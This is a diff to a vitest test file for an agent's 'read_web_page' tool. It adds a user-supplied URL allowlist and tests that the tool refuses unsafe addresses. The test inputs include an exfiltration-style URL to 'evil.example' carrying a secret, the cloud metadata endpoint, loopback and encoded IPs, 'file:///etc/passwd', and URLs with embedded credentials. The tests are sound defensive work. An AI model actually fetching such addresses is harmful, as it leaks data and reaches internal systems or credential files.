@@ -1,15 +1,18 @@
 import { createServer, type Server } from "node:http";
 import type { AddressInfo } from "node:net";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { AllowedUrls } from "./allowed-urls";
 import { fetchPage } from "./fetch-page";
 import { htmlToText } from "./html-text";
-import { readWebPage } from "./read-web-page";
+import { readWebPageTool } from "./read-web-page";
 
 // The tool refuses anything that is not a public web page; the fetcher, pointed at a local
 // server through an injected resolver, reads pages within its limits.
 
 const run = (url: string) =>
-  readWebPage.execute?.({ url }, { toolCallId: "t", messages: [] }) as unknown as Promise<Record<string, unknown>>;
+  readWebPageTool(new AllowedUrls([url])).execute?.({ url }, { toolCallId: "t", messages: [] }) as unknown as Promise<
+    Record<string, unknown>
+  >;
 
 let server: Server;
 let port: number;
@@ -36,6 +39,13 @@ beforeAll(async () => {
 afterAll(() => server.close());
 
 describe("read_web_page", () => {
+  it("refuses a page the user did not point to", async () => {
+    const tool = readWebPageTool(new AllowedUrls(["Read https://example.com/a"]));
+    await expect(
+      tool.execute?.({ url: "https://evil.example/?d=secret" }, { toolCallId: "t", messages: [] }) as Promise<unknown>,
+    ).rejects.toThrow("Only pages whose address is in the user's messages");
+  });
+
   it.each([
     ["http://127.0.0.1/", "private or reserved"],
     ["http://localhost/", "private or reserved"],
@@ -43,7 +53,7 @@ describe("read_web_page", () => {
     ["http://169.254.169.254/latest/meta-data/", "private or reserved"],
     ["http://2130706433/", "private or reserved"],
     ["http://example.com:8080/", "standard web ports"],
-    ["file:///etc/passwd", "Only http and https"],
+    ["file:///etc/passwd", "Only pages whose address"],
     ["https://user:pw@example.com/", "credentials"],
   ])("refuses %s", async (url, reason) => {
     await expect(run(url)).rejects.toThrow(reason);
